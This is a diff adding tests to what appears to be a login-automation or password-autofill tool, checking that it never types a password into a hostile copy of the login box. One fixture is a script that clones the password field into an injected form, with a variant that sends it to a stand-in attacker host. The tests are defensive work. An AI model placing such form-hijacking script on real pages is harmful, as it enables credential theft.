@@ -97,6 +97,39 @@ def test_a_password_is_not_typed_into_a_form_that_leads_elsewhere(
     assert (pages.passwords, report.password_submissions) == ([], 0)
 
 
+def test_a_password_is_not_typed_into_a_copy_of_its_box(pages: Pages, visitor: Visitor) -> None:
+    """A script copies the box, with whatever we have put on it, into a form of its own."""
+    copy = """<script>const box = document.querySelector("[type=password]");
+    const made = document.createElement("form");
+    const seen = new MutationObserver(() => {
+      seen.disconnect();
+      made.append(box.cloneNode());
+      document.body.prepend(made);
+    });
+    seen.observe(box, {attributes: true});</script>"""
+    for form, code in (
+        (copy, Code.NAVIGATION),
+        (copy.replace('"form");', '"form"); made.action = "http://evil.test";'), Code.OTHER_SITE),
+    ):
+        pages.portal(NO_BILLS, LOGIN_PAGE + form)
+        report = visitor.visit()
+        assert report.code is code, report.error
+        assert "Nothing was typed." in report.error
+        assert (pages.passwords, report.password_submissions) == ([], 0)
+
+
+def test_another_form_that_leads_nowhere_is_in_nobodys_way(pages: Pages, visitor: Visitor) -> None:
+    pages.portal(NO_BILLS, "<form action='http://[/'><input name=q></form>" + LOGIN_PAGE)
+    report = visitor.visit()
+    assert report.code is None, report.error
+
+
+def test_a_box_without_any_size_asks_for_no_password(pages: Pages, visitor: Visitor) -> None:
+    pages.portal(NO_BILLS + "<input type=password style='all:unset; position:fixed; width:0'>")
+    report = visitor.visit()
+    assert report.code is None, report.error
+
+
 def test_a_password_is_not_typed_on_another_site(pages: Pages, visitor: Visitor) -> None:
     elsewhere = pages.url.replace("127.0.0.1", "localhost")
     pages.reply("GET /login", Reply(303, headers=[("Location", elsewhere + "/site/other")]))
